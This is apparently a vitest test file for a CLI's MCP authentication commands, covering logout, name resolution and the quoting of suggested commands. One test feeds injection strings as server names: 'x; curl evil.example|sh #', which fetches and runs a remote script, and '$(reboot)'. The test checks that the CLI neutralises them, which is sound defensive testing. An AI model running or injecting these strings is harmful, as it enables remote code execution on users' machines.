import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { expect, onTestFinished, test } from 'vitest'
import { Secret } from '../../src/auth/secret.ts'
import { openStore } from '../../src/auth/store/store.ts'
import { webUrl } from '../../src/auth/url.ts'
import { type FaultyServer, startFaultyServer } from '../support/faulty-server.ts'
import { temporaryFolder } from '../support/folder.ts'
import { storeOptions } from '../support/open-store.ts'
import { openRuns } from '../support/runs.ts'
import { closed } from '../support/shown.ts'

const PROGRAM = fileURLToPath(new URL('../../bin/copilot-host.js', import.meta.url))

const tokenOf = (address: string) => `token-of-${address}`

/** A home with these servers configured, and sign-ins that are kept for these addresses, ended a second ago. */
async function homeWith(
  server: FaultyServer,
  servers: Record<string, string>,
  signedIn: readonly string[] = [],
) {
  const home = await temporaryFolder()
  await mkdir(join(home, 'copilot'))
  const mcpServers = Object.fromEntries(Object.entries(servers).map(([name, url]) => [name, { url }]))
  await writeFile(join(home, 'copilot', 'mcp-config.json'), JSON.stringify({ mcpServers }))
  const folder = join(home, 'host')
  const warn = (line: string) => expect.fail(line)
  const store = openStore({ ...storeOptions(folder), kind: 'file', warn, now: Date.now })
  for (const address of signedIn) {
    const key = { server: webUrl(address, 'the server'), issuer: server.origin }
    await store.write(key, {
      issuer: key.issuer,
      resource: address,
      client: { id: 'app', source: 'registered', authMethod: 'none' },
      access: new Secret(tokenOf(address)),
      receivedAt: Date.now() - 2000,
      expiresAt: Date.now() - 1000,
    })
  }
  await store.close()
  const { run, ...told } = openRuns()
  onTestFinished(async () => {
    const ended = await closed([], { ...told, folders: [home], secrets: signedIn.map(tokenOf) })
    ended.judge()
  })
  const env = {
    PATH: process.env.PATH,
    HOME: home,
    COPILOT_HOME: join(home, 'copilot'),
    COPILOT_HOST_HOME: folder,
    COPILOT_HOST_LOG: join(home, 'debug.log'),
  }
  return {
    folder,
    run: (...args: string[]) =>
      run([process.execPath, PROGRAM, 'auth', ...args, '--token-store', 'file'], { cwd: home, env }),
  }
}

async function serve(): Promise<FaultyServer> {
  const server = await startFaultyServer()
  onTestFinished(() => server.close())
  return server
}

test('logout --all: one sign-in that cannot be ended is named and is no reason to leave the others', async () => {
  const server = await serve()
  const addresses = ['a', 'b'].map(path => `${server.origin}/${path}`)
  const { folder, run } = await homeWith(server, {}, addresses)
  const file = join(folder, 'index.json')
  const index = JSON.parse(await readFile(file, 'utf8'))
  // Nobody may sign in there, so it cannot be asked to end anything.
  const bad = { server: 'http://mcp.example/', issuer: server.origin, store: 'file', since: 1 }
  await writeFile(file, JSON.stringify({ ...index, grants: [bad, ...index.grants] }))
  const { code, stdout, stderr } = await run('logout', '--all')
  expect(code).toBe(1)
  expect(stderr).toMatch(/^http:\/\/mcp\.example\/: .*is not https/)
  expect(stdout).toBe(addresses.map(address => `signed out of ${address}\n`).join(''))
  const json = await run('logout', '--all', '--json')
  expect(JSON.parse(json.stdout)).toMatchObject([{ url: 'http://mcp.example/', forgotten: false }])
})

test('a server keeps its name, however its address is spelled in the configuration', async () => {
  const server = await serve()
  const { run } = await homeWith(server, { notes: server.origin }, [server.origin])
  expect((await run('status', '--offline')).stdout).toMatch(/^notes {2}/)
  expect((await run('status', `${server.origin}/`, '--offline')).stdout).toMatch(/^notes {2}/)
})

test('commands to be copied quote the name of the server, and leave it out where that is not enough', async () => {
  const server = await serve()
  const names = { 'my notes': '/1', 'x; curl evil.example|sh #': '/2', '$(reboot)': '/3' }
  const servers = Object.fromEntries(
    Object.entries(names).map(([name, path]) => [name, `${server.origin}${path}`]),
  )
  const { run } = await homeWith(server, servers)
  const nextStep = async (name: string) => (await run('status', name, '--offline')).stderr.split('Run: ')[1]
  expect(await nextStep('my notes')).toBe('copilot-host auth login "my notes" --token-store file\n')
  expect(await nextStep('x; curl evil.example|sh #')).toBe(
    'copilot-host auth login "x; curl evil.example|sh #" --token-store file\n',
  )
  expect(await nextStep('$(reboot)')).toBe('copilot-host auth login <name> --token-store file\n')
})
